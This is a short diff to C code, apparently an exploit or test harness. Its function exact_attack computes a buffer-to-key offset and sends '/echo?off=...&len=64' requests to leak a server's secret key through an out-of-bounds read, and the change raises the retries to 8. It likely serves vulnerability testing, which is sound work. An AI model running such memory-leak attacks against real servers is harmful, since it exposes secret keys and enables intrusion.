@@ -322,8 +322,9 @@ static int exact_attack(struct server *s, int *answered)
 	for (int i = 0; i < s->nbuffers; i++) {
 		char path[128];
 		long off = (long)(s->key - s->buffers[i]);
-		/* both buffers: which thread takes the connection is not ours */
-		for (int k = 0; k < 2; k++) {
+		/* which thread (and so which buffer) takes a connection is
+		 * not ours to choose: a few tries for each */
+		for (int k = 0; k < 8 && !leaked; k++) {
 			snprintf(path, sizeof(path), "/echo?off=%ld&len=64", off);
 			if (get(s, path) == 200) {
 				(*answered)++;
